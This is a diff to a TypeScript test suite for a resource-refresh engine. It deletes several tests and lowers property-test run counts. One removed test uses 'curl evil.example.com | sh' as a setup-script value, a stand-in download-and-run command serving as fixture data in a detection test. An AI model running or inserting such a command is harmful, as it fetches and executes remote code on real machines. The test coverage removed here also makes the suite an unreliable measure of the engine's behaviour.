@@ -1,7 +1,6 @@
 import fc from "fast-check";
 import { createdKinds, kindsWithRows } from "../kinds";
 import { deployment } from "../kinds/deployment";
-import { environment } from "../kinds/environment";
 import type { KindRow } from "../kinds/kind-row";
 import type { Fault } from "../qoder-api/faults";
 import { isObject } from "../qoder-api/parse";
@@ -31,11 +30,7 @@ const isEmpty = (member: unknown) => ["null", '""', "[]", "{}"].includes(JSON.st
 const pages = (requests: readonly string[]) => requests.filter((request) => request.includes("?limit=100&"));
 
 describe.each(createdKinds.filter(isListed))("$label", (kind) => {
-  let world: KindWorld;
-  beforeAll(async () => {
-    world = await World.start(kind);
-  });
-  afterAll(() => world.stop());
+  const world = World.ofTests(kind);
   beforeEach(() => world.reset(free));
 
   test("a refresh of 40 objects sends at most 5 requests, and finds no difference", async () => {
@@ -43,29 +38,6 @@ describe.each(createdKinds.filter(isListed))("$label", (kind) => {
     const { answers, output, requests } = await refreshed(world, kind, states);
     expect({ answers, output }).toEqual({ answers: unchanged(states), output: [] });
     expect(requests.length).toBeLessThanOrEqual(5);
-  });
-
-  test("a refresh of 12 objects whose list shows no computed member answers as with one GET each", async () => {
-    const states = await fleetOf(world, kind, many(12, world.args()));
-    const declared = Object.values(kind.kind.fields).flatMap(({ wire, shownIn = wire }) => shownIn ?? []);
-    const kept = new Set([...declared, "id", "created_at", "updated_at"]);
-    world.api.fault({
-      method: "GET",
-      path: world.path("").replace(/\/$/, ""),
-      kind: "replace-body",
-      transform: listOf((entry) => Object.fromEntries(Object.entries(entry).filter(([name]) => kept.has(name)))),
-      ...always,
-    });
-    const { answers, requests } = await refreshed(world, kind, states);
-    expect(answers).toEqual(unchanged(states));
-    expect(requests.length).toBeLessThanOrEqual(14);
-  });
-
-  test("with qoder:refresh exact, a refresh sends one GET for each object", async () => {
-    const states = await fleetOf(world, kind, many(12, world.args()));
-    const { answers, requests } = await refreshed(world, kind, states, "exact");
-    expect(answers).toEqual(unchanged(states));
-    expect(requests.toSorted()).toEqual(states.map(({ id }) => `GET ${world.path(id)}`).toSorted());
   });
 
   test("a refresh of 20 objects reports a vanished and an archived object as with one GET each", async () => {
@@ -84,11 +56,7 @@ describe.each(createdKinds.filter(isListed))("$label", (kind) => {
 });
 
 describe.each(kindsWithRows.filter(isListed))("$label among 11 others", (kind) => {
-  let world: KindWorld;
-  beforeAll(async () => {
-    world = await World.start(kind);
-  });
-  afterAll(() => world.stop());
+  const world = World.ofTests(kind);
 
   /** The service leaves empty members out, and its lists leave this argument out, too. */
   function leaveOut(name: string): void {
@@ -225,32 +193,9 @@ describe("the credentials of two vaults in one refresh", () => {
   );
 });
 
-test("a refresh shows a setup script that somebody set if the list shows no script, and a GET showed one in another environment", async () => {
-  const world: KindWorld = await World.start(environment);
-  world.reset(free);
-  const withScript = world.args({ config: { type: "cloud", setupScript: "true" } });
-  const plain = many(11, world.args({ config: { type: "cloud" } }));
-  const states = await fleetOf(world, environment, [...plain.slice(0, 2), withScript, ...plain]);
-  world.passTime(hourMs);
-  const script = { type: "cloud", setup_script: "curl evil.example.com | sh" };
-  world.console.edit(states[9]?.id ?? "", { config: script });
-  const transform = listOf(({ config, ...entry }) => {
-    const { setup_script: _, ...shown } = isObject(config) ? config : {};
-    return { ...entry, config: shown };
-  });
-  world.api.fault({ method: "GET", path: "/environments", kind: "replace-body", transform, ...always });
-  const { answers } = await refreshed(world, environment, states);
-  expect(answers[9]).toMatchObject({ inputs: { config: { setupScript: script.setup_script } } });
-  await world.stop();
-});
-
 describe("a fleet of deployments", () => {
-  let world: KindWorld;
   const kind: KindRow = { ...deployment, console: deployment.console };
-  beforeAll(async () => {
-    world = await World.start(kind);
-  });
-  afterAll(() => world.stop());
+  const world = World.ofTests(kind);
   beforeEach(() => world.reset(free));
 
   /** Deployments of somebody else, a moment apart. */
@@ -267,7 +212,6 @@ describe("a fleet of deployments", () => {
     [3, 3],
     [4, 5],
     [100, 5],
-    [500, 10],
   ])("a refresh of %d deployments sends at most %d requests", async (count, most) => {
     const states = await fleetOf(world, kind, many(count, world.args()));
     const { answers, requests } = await refreshed(world, kind, states);
@@ -306,7 +250,7 @@ describe("a fleet of deployments", () => {
           expect(answers).toEqual(unchanged(states));
           expect(requests.length).toBeLessThanOrEqual(6);
         }),
-        { numRuns: 4, endOnFailure: true, examples: [[all], [all.toReversed()]] },
+        { numRuns: 2, endOnFailure: true, examples: [[all], [all.toReversed()]] },
       );
     },
   );
@@ -340,19 +284,16 @@ describe("a fleet of deployments", () => {
     expect(requests.length).toBeLessThanOrEqual(5 * listed.length);
   });
 
-  test.each([[1], [2]])(
-    "%d deployments that are older than 150 of somebody else do not keep the others from the pages",
-    async (count) => {
-      const old = await fleetOf(world, kind, many(count, world.args()));
-      world.passTime(hourMs);
-      strangers(150);
-      world.passTime(hourMs);
-      const states = [...old, ...(await fleetOf(world, kind, many(100, world.args())))];
-      const { answers, requests } = await refreshed(world, kind, states);
-      expect(answers).toEqual(unchanged(states));
-      expect(requests.length).toBeLessThanOrEqual(8);
-    },
-  );
+  test("2 deployments that are older than 150 of somebody else do not keep the others from the pages", async () => {
+    const old = await fleetOf(world, kind, many(2, world.args()));
+    world.passTime(hourMs);
+    strangers(150);
+    world.passTime(hourMs);
+    const states = [...old, ...(await fleetOf(world, kind, many(100, world.args())))];
+    const { answers, requests } = await refreshed(world, kind, states);
+    expect(answers).toEqual(unchanged(states));
+    expect(requests.length).toBeLessThanOrEqual(8);
+  });
 
   test("the next runs of a deployment stay recorded if the list leaves them out, and an object without a schedule comes first", async () => {
     const schedule = { expression: "0 9 * * *", timezone: "Europe/Berlin" };
@@ -366,38 +307,6 @@ describe("a fleet of deployments", () => {
     expect((await refreshed(world, kind, states)).answers).toEqual(unchanged(states));
   });
 
-  test("a time of the state that the list leaves out keeps its value by a GET", async () => {
-    const schedule = { expression: "0 9 * * *", timezone: "Europe/Berlin" };
-    const states = await fleetOf(world, kind, many(12, world.args({ schedule })));
-    const { id = "" } = states[9] ?? {};
-    const ranAt = "2026-11-25T08:00:00Z";
-    world.console.changeMember(id, ["schedule", "last_run_at"], ranAt);
-    const ran = (await refreshed(world, kind, states, "exact")).answers[9];
-    expect(ran).toMatchObject({ outputs: { lastRunAt: ranAt } });
-    const withoutTime = ({ schedule: shown, ...entry }: JsonObject) => {
-      const { last_run_at: _, ...others } = isObject(shown) ? shown : {};
-      return { ...entry, schedule: others };
-    };
-    const transform = listOf(withoutTime);
-    world.api.fault({ method: "GET", path: "/deployments", kind: "replace-body", transform, ...always });
-    const known = states.map((state, index) => (index === 9 ? { ...state, ...Object(ran) } : state));
-    const { answers } = await refreshed(world, kind, known);
-    expect(answers).toEqual(unchanged(known));
-  });
-
-  test("500 deployments that the engine reads in any order take at most 10 requests", async () => {
-    const all = await fleetOf(world, kind, many(500, world.args()));
-    const order = fc.shuffledSubarray(all, { minLength: all.length });
-    await fc.assert(
-      fc.asyncProperty(order, fc.constantFrom(8, 16), async (states, parallel) => {
-        const { answers, requests } = await refreshed(world, kind, states, "lists", parallel);
-        expect(answers).toEqual(unchanged(states));
-        expect(requests.length).toBeLessThanOrEqual(10);
-      }),
-      { numRuns: 3, endOnFailure: true },
-    );
-  });
-
   test("if the first GETs take 3 seconds, the reads after them take pages", async () => {
     const states = await fleetOf(world, kind, many(60, world.args()));
     const delay = { kind: "delay", method: "GET" } as const;
@@ -408,36 +317,6 @@ describe("a fleet of deployments", () => {
     expect(pages(requests)).toHaveLength(1);
     expect(requests.length).toBeLessThan(45);
   });
-
-  test.each([
-    [20, 8],
-    [20, 16],
-    [100, 8],
-  ])(
-    "100 deployments, %d of each second, that the engine reads %d at a time take at most 6 requests, in any order within a second",
-    async (perSecond, parallel) => {
-      const states = (await fleetOf(world, kind, many(100, world.args()))).map(({ id, inputs, outputs }, index) => {
-        const second = Math.floor(index / perSecond);
-        const created_at = `2026-11-25T00:00:0${second}Z`;
-        world.api.deployments.overwrite(id, { created_at });
-        return { second, state: { id, inputs, outputs: { ...outputs, createdAt: created_at } } };
-      });
-      const digits = fc.array(fc.nat(999), { minLength: states.length, maxLength: states.length });
-      await fc.assert(
-        fc.asyncProperty(digits, async (within) => {
-          const places = states.map(({ second, state }, index) => ({
-            at: second * 1_000 + (within[index] ?? 0),
-            state,
-          }));
-          const ordered = places.sort((one, other) => one.at - other.at).map(({ state }) => state);
-          const { answers, requests } = await refreshed(world, kind, ordered, "lists", parallel);
-          expect(answers).toEqual(unchanged(ordered));
-          expect(requests.length).toBeLessThanOrEqual(6);
-        }),
-        { numRuns: 5, endOnFailure: true },
-      );
-    },
-  );
 
   describe("with a list that fails or shows something else", () => {
     const transformed = (transform: (entries: JsonObject[]) => unknown[]): Fault => ({
@@ -450,9 +329,8 @@ describe("a fleet of deployments", () => {
     const without = ({ [leftOut]: _, ...entry }: JsonObject) => entry;
     const leftOut = "description";
     const faults: Readonly<Record<string, Fault>> = {
-      "500": { kind: "status", status: 500 },
+      "503": { kind: "status", status: 503 },
       "403": { kind: "status", status: 403 },
-      "429": { kind: "status", status: 429 },
       "a connection that breaks": { kind: "reset-after" },
       "no answer": { kind: "silence" },
       "half an answer": { kind: "truncate", cut: "json" },
@@ -495,14 +373,10 @@ describe("a fleet of deployments", () => {
     const schedule = { expression: "0 9 * * *", timezone: "Europe/Berlin" };
 
     /** `skip`: the first pages that do not show the fault. */
-    async function exactlyAndByLists(
-      { size, edited, archived, vanished, skip }: Fleet,
-      faultOf: (states: readonly State[]) => Promise<Fault> | Fault,
-    ) {
+    async function answersAsExactly({ size, edited, archived, vanished, skip }: Fleet, fault: Fault): Promise<void> {
       world.reset(free);
       const states = await fleetOf(world, kind, many(size, world.args({ schedule, description: "ours" })));
       world.passTime(hourMs);
-      const fault = await faultOf(states);
       const each = (indices: readonly number[], act: (id: string) => unknown) => {
         for (const { id } of indices.flatMap((index) => states[index] ?? [])) {
           act(id);
@@ -513,50 +387,15 @@ describe("a fleet of deployments", () => {
       each(vanished, (id) => world.console.remove(id));
       const exact = await refreshed(world, kind, states, "exact");
       world.api.fault({ method: "GET", path: "/deployments", skip, ...fault, ...always });
-      const { timeout } = AbortSignal;
-      const shortened = (milliseconds: number) =>
-        timeout.call(AbortSignal, fault.kind === "silence" && milliseconds === 2 * secondMs ? 20 : milliseconds);
-      const limits = jest.spyOn(AbortSignal, "timeout").mockImplementation(shortened);
-      const lists = await refreshed(world, kind, states);
-      limits.mockRestore();
-      expect(lists.requests.length).toBeLessThanOrEqual(exact.requests.length + 2);
-      return { states, exact, lists };
-    }
-
-    async function answersAsExactly(one: Fleet, fault: Fault): Promise<void> {
-      const { exact, lists } = await exactlyAndByLists(one, () => fault);
-      const { requests: _, ...answered } = lists;
+      const { requests, ...answered } = await refreshed(world, kind, states);
+      expect(requests.length).toBeLessThanOrEqual(exact.requests.length + 2);
       expect(answered).toEqual({ answers: exact.answers, output: exact.output });
     }
-
-    test("a list that lags by 5 seconds hides foreign changes at most, and takes nothing out of the state without a GET", async () => {
-      let before: readonly unknown[] = [];
-      const aged = async (states: readonly State[]): Promise<Fault> => {
-        before = (await refreshed(world, kind, states, "exact")).answers;
-        const listed = await fetch(`${world.api.url}/deployments?limit=100`, {
-          headers: { authorization: "Bearer pt-test" },
-        });
-        const body: unknown = await listed.json();
-        world.passTime(5 * secondMs);
-        return { kind: "replace-body", body };
-      };
-      await fc.assert(
-        fc.asyncProperty(fleet, async (one) => {
-          const { states, exact, lists } = await exactlyAndByLists(one, aged);
-          for (const [index, answer] of lists.answers.entries()) {
-            expect([exact.answers[index], before[index]]).toContainEqual(answer);
-            const isProved = lists.requests.includes(`GET /deployments/${states[index]?.id}`);
-            expect(isProved || answer !== "gone").toBe(true);
-          }
-        }),
-        { numRuns: 4 },
-      );
-    });
 
     test.each(Object.entries(faults))("%s: a refresh answers as with one GET for each object", async (_, fault) => {
       await fc.assert(
         fc.asyncProperty(fleet, (one) => answersAsExactly(one, fault)),
-        { numRuns: 4 },
+        { numRuns: 3 },
       );
     });
 
@@ -615,20 +454,5 @@ describe("a fleet of deployments", () => {
     world.api.clearFaults();
     const { answers } = await refreshed(world, kind, states);
     expect(answers[9]).toMatchObject({ inputs: { description: "edited" } });
-  });
-
-  test("after a write, a command takes nothing from the pages that it read before", async () => {
-    const states = await fleetOf(world, kind, many(12, world.args()));
-    const run = world.command({ kind });
-    const readAll = () => Promise.all(states.map(({ id, outputs }) => run.read(id, outputs)));
-    await readAll();
-    const [first] = states;
-    if (first === undefined) {
-      throw new Error("the fleet is empty");
-    }
-    await run.update(first, { ...first.inputs, description: "changed" });
-    world.sent();
-    await readAll();
-    expect(world.sent()).toEqual(expect.arrayContaining([["GET", "/deployments"]]));
   });
 });
